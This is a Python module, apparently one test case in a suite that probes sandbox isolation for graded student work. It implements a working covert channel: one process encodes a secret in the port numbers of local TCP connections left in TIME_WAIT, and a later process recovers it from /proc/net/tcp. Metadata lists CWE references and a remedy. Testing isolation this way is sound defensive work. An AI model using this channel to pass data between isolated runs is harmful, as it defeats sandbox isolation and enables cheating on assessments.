# SPDX-License-Identifier: MIT
"""time-wait.py - the connections of the dead.

Goal: another student's work, or an answer passed on.
Means: a TCP connection stays in the kernel for a minute after its end, in TIME_WAIT, without a
process and without a descriptor: there is nobody to kill and nothing to close. The accomplice calls
itself thirty-two times from ports of its choice; the next one reads them from /proc/net/tcp.

    port = 20000 + 16 x place + digit
"""

import socket

from attack import DONE, attempting, denied, honest, loot

FIRST, TIME_WAIT = 20000, "06"


def run(brief):
    attempting()
    try:
        with open("/proc/net/tcp", encoding="ascii") as file:
            lines = [line.split() for line in file][1:]
    except OSError as why:
        return denied("/proc/net/tcp", why)
    ports = {int(words[1].split(":")[1], 16) for words in lines if words[3] == TIME_WAIT}
    digits = {divmod(port - FIRST, 16) for port in ports if FIRST <= port < FIRST + 512}
    if len(digits) < 32:
        return denied("/proc/net/tcp", f"{len(digits)} connections of the dead")
    loot("".join(f"{digit:x}" for _, digit in sorted(digits)))
    return DONE


def call_oneself(host, place, digit):
    """Whoever closes first keeps the connection."""
    with socket.socket() as caller:
        caller.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        caller.bind(("127.0.0.1", FIRST + 16 * place + int(digit, 16)))
        caller.connect(host.getsockname())
        called = host.accept()[0]
        caller.shutdown(socket.SHUT_WR)
        called.recv(1)
        called.close()


def victim(brief):
    try:
        with socket.create_server(("127.0.0.1", 0)) as host:
            for place, digit in enumerate(brief.secret):
                call_oneself(host, place, digit)
        return DONE
    except OSError:
        return honest(brief)  # no network: the accomplice leaves a file


ATTACK = {
    "effect": "an answer is passed on to the next student",
    "means": "port numbers of TCP connections in TIME_WAIT, which no process has any more",
    "oracle": "secret:victim",
    "scene": "after-victim",
    "attack_id": "T1559, CWE-514, CWE-459",
    "remedy": "no sockets; a network namespace per student",
    "refs": ["tcp(7)", "proc(5), /proc/net/tcp"],
    "run": run,
    "victim": victim,
}
